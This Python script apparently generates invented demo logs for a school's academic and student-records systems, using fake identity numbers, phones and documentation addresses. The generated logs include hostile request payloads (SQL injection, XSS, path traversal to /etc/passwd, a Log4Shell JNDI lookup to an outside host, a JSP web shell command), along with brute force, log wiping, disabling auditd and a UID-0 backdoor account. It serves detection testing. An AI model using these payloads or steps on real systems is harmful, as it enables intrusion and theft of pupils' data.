"""Makes the invented logs of the demo again, byte for byte: `python demo/generate.py`.

People, numbers and addresses are invented: identity numbers carry the area code 370000, which belongs to a province as
a whole and is given to nobody; phones are of the pattern 1380013xxxx; addresses are those reserved for documentation.
"""

import json
import random
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

LOGS = Path(__file__).parent / "logs"
CST = timezone(timedelta(hours=8))
START = datetime(2026, 9, 7, 7, 30, tzinfo=CST)
DAYS_BEFORE = 8
AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
CHANCE = random.Random(20260907)  # noqa: S311  the same logs every time; no secret hangs on it

SURNAMES = "赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许"
GIVEN = ["子涵", "欣怡", "浩然", "雨桐", "思远", "佳宁", "一诺", "梓萱", "文博", "静怡", "喆", "堃"]


def resident_id(birth: str, order: int) -> str:
    """Return an identity number with a right check digit (GB 11643-1999) of an area that is given to nobody."""
    body = f"370000{birth}{order:03d}"
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]


def student(number: int) -> dict[str, str]:
    """Return one invented pupil."""
    birth = f"{2010 + number % 6}{1 + number % 12:02d}{1 + number % 28:02d}"
    identity = resident_id(birth, 1 + number % 900)
    return {
        "name": SURNAMES[number % len(SURNAMES)] + GIVEN[number % len(GIVEN)],
        "id": identity,
        "roll": f"G{identity}",
        "phone": f"1380013{number % 10000:04d}",
    }


def access(moment: datetime, address: str, request: str, status: int, size: int, agent: str = AGENT) -> str:
    """Return one line of nginx's combined log."""
    stamp = moment.strftime("%d/%b/%Y:%H:%M:%S %z")
    return f'{address} - - [{stamp}] "{request}" {status} {size} "-" "{agent}"'


def jwxt() -> Iterator[tuple[datetime, str]]:
    """The portal of a 教务系统: a working morning, and what does not belong there."""
    pages = [
        "/jwxt/login",
        "/jwxt/course/list",
        "/jwxt/grade/query",
        "/jwxt/timetable",
        "/static/app.js",
        "/favicon.ico",
    ]
    for day in range(-DAYS_BEFORE, 1):  # the days before are quiet
        for number in range(160 if day else 900):
            moment = START + timedelta(days=day, seconds=number * (80 if day else 14) + CHANCE.random() * 8)
            address = f"198.51.100.{CHANCE.randrange(2, 250)}" if number % 5 else f"2001:db8:10::{number % 200 + 1:x}"
            status = CHANCE.choices((200, 304, 302, 404), (80, 10, 8, 2))[0]
            size = CHANCE.randrange(300, 9000)
            yield moment, access(moment, address, f"GET {CHANCE.choice(pages)} HTTP/1.1", status, size)
    for number in range(18):  # pupils' data in query strings
        one = student(number)
        moment = START + timedelta(minutes=12 + number * 7)
        query = f"xm={one['name']}&sfzh={one['id']}&sjh={one['phone']}"
        yield moment, access(moment, "198.51.100.77", f"GET /jwxt/student/search?{query} HTTP/1.1", 200, 1822)
    for number in range(40):  # a bulk export, page by page
        moment = START + timedelta(hours=1, seconds=number * 4)
        request = f"GET /jwxt/student/export?format=xlsx&page={number + 1}&size=500 HTTP/1.1"
        yield moment, access(moment, "203.0.113.66", request, 200, 412_000 + number, "python-requests/2.32")
    attacks = [
        "GET /jwxt/news?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
        "GET /jwxt/news?id=1'%20AND%20SLEEP(5)--%20 HTTP/1.1",
        "GET /jwxt/search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
        "GET /jwxt/download?file=../../../../etc/passwd HTTP/1.1",
        "GET /jwxt/download?file=..%252f..%252f..%252fWEB-INF/web.xml HTTP/1.1",
        "GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1",
        "POST /jwxt/upload/avatar/x.jsp HTTP/1.1",
        "POST /jwxt/upload/avatar/x.jsp?cmd=whoami HTTP/1.1",
        "GET /.git/config HTTP/1.1",
        "GET /.env HTTP/1.1",
        "GET /actuator/env HTTP/1.1",
        "GET /druid/index.html HTTP/1.1",
        "GET /backup/jwxt_20260901.sql.gz HTTP/1.1",
        "GET /phpmyadmin/index.php HTTP/1.1",
    ]
    for number, request in enumerate(attacks):
        moment = START + timedelta(hours=2, seconds=number * 6)
        status = 200 if "upload" in request or "backup" in request else 404
        yield moment, access(moment, "203.0.113.9", request, status, 530 if status == 404 else 20_480, "sqlmap/1.8")
    for number in range(60):  # a scan of paths
        moment = START + timedelta(hours=2, minutes=10, seconds=number)
        yield moment, access(moment, "203.0.113.200", f"GET /admin{number}/login.php HTTP/1.1", 404, 146, "Mozilla/5.0")
    moment = START + timedelta(hours=2, minutes=30)
    yield moment, access(moment, "203.0.113.5", r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", 400, 166, "-")


def cas() -> str:
    """A password spraying against the 统一身份认证, and the one that worked."""
    lines = []
    names = [f"2023{number:04d}" for number in range(40)]
    for number, name in enumerate([*names, "20230017"]):
        moment = START + timedelta(minutes=50, seconds=number * 6)
        worked = number == len(names)
        action = "AUTHENTICATION_SUCCESS" if worked else "AUTHENTICATION_FAILED"
        stamp = moment.strftime("%a %b %d %H:%M:%S CST %Y")
        head = moment.strftime("%Y-%m-%d %H:%M:%S,") + "120"
        lines.append(
            f"{head} INFO [org.apereo.inspektr.audit.support.Slf4jLoggingAuditTrailManager] - "
            f"{stamp}|CAS|Supplied credentials: [UsernamePasswordCredential(username={name})]|{action}|{name}"
            "|203.0.113.45|10.1.1.5"
        )
    return "\n".join(lines) + "\n"


def servers() -> str:
    """Two servers: administration, a brute force, log clearing, an account out of nowhere."""
    lines = []

    def add(minutes: float, host: str, tail: str) -> None:
        moment = START + timedelta(minutes=minutes)
        lines.append((moment, f"<86>1 {moment.isoformat(timespec='milliseconds')} {host} {tail}"))

    for number in range(30):
        tail = f"sshd 2201 - - Failed password for root from 203.0.113.77 port {40_000 + number} ssh2"
        add(20 + number * 0.1, "jwxt-db01", tail)
    add(24, "jwxt-db01", "sshd 2230 - - Accepted password for root from 203.0.113.77 port 41000 ssh2")
    sudo = "sudo 2301 - -    ops01 : TTY=pts/0 ; PWD=/home/ops01 ; USER=root ; COMMAND="
    add(25, "jwxt-db01", sudo + "/usr/bin/mysqldump --all-databases -r /tmp/all.sql")
    add(26, "jwxt-db01", sudo + "/usr/bin/truncate -s 0 /var/log/auth.log")
    add(27, "jwxt-db01", sudo + "/usr/bin/systemctl stop auditd")
    add(
        28,
        "jwxt-db01",
        "useradd 2310 - - new user: name=svc_backup, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
    )
    for day in range(-DAYS_BEFORE, 1):  # administration as on every day
        for number in range(12):
            minutes = day * 1440 + 60 + number * 9
            host = ("jwxt-web01", "jwxt-db01", "xueji-app01")[number % 3]
            person = f"ops0{number % 3 + 1}"
            login = (
                f"sshd 3{number:03d} - - Accepted publickey for {person} from 192.0.2.50 port {50_000 + number} ssh2"
            )
            add(minutes, host, login)
            add(
                minutes + 1,
                host,
                f"sudo 36{number:02d} - -    {person} : TTY=pts/1 ; PWD=/home/{person} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx",
            )
            add(minutes + 3, host, f"CRON 4{number:03d} - - (root) CMD (/opt/backup/run.sh)")
            if number % 6 == 5:
                add(
                    minutes + 4,
                    host,
                    f"sshd 39{number:02d} - - Failed password for {person} from 192.0.2.50 port {51_000 + number} ssh2",
                )
    add(200, "xueji-app01", "su 5001 - - FAILED SU (to root) web01 on pts/2")
    return "".join(f"{line}\n" for _, line in sorted(lines))


def audit() -> str:
    """Audit records of a 学籍管理系统, delivered as ECS documents."""
    rows = []

    def add(minutes: float, user: str, address: str, action: str, **more: object) -> None:
        moment = START + timedelta(minutes=minutes)
        rows.append(
            {
                "@timestamp": moment.isoformat(timespec="milliseconds"),
                "ecs": {"version": "8.17.0"},
                "event": {
                    "module": "education",
                    "dataset": "education.audit",
                    "category": ["database"],
                    "type": [{"query": "access", "export": "access"}.get(action.rsplit("_", maxsplit=1)[-1], "change")],
                    "action": action,
                    "outcome": "success",
                },
                "host": {"name": "xueji-app01"},
                "user": {"name": user},
                "source": {"ip": address},
                **more,
            }
        )

    for number in range(120):
        one = student(number)
        add(
            5 + number * 1.5,
            f"teacher{number % 12:02d}",
            f"192.0.2.{100 + number % 12}",
            "student_query",
            message=f"查询学生 姓名={one['name']} 学籍号={one['roll']}",
            edu={"object": "student", "records": 1},
        )
    add(
        95,
        "clerk03",
        "192.0.2.113",
        "student_export",
        message="导出学生基本信息 12600 条",
        edu={"object": "student", "records": 12_600},
    )
    for number in range(14):
        one = student(200 + number)
        add(
            15 * 60 + number,
            "teacher05",
            "203.0.113.88",
            "grade_update",
            message=f"修改成绩 学生={one['name']} 原=52 新=88",
            edu={"object": "grade", "records": 1},
        )
    add(
        15 * 60 + 20,
        "admin",
        "203.0.113.88",
        "role_grant",
        message="授予 teacher05 学籍管理员",
        edu={"object": "role", "records": 1},
    )
    add(
        15 * 60 + 25,
        "teacher05",
        "203.0.113.88",
        "xueji_update",
        message="批量变更学籍状态 310 条",
        edu={"object": "xueji", "records": 310},
    )
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


def main() -> None:
    """Write all invented logs."""
    lines = [line for _, line in sorted(jwxt())]
    web = "\n".join(lines) + "\n\n这不是一条访问日志\n"
    # Old systems write GB18030: one line does here, too.
    odd = access(START, "198.51.100.9", "GET /jwxt/search?q=学籍 HTTP/1.1", 200, 900).encode("gb18030")
    (LOGS / "jwxt-access.log").write_bytes(web.encode() + odd + b"\n")
    (LOGS / "cas-spraying.log").write_text(cas(), encoding="utf-8")
    (LOGS / "servers.log").write_text(servers(), encoding="utf-8")
    (LOGS / "xueji-audit.jsonl").write_text(audit(), encoding="utf-8")


if __name__ == "__main__":
    main()
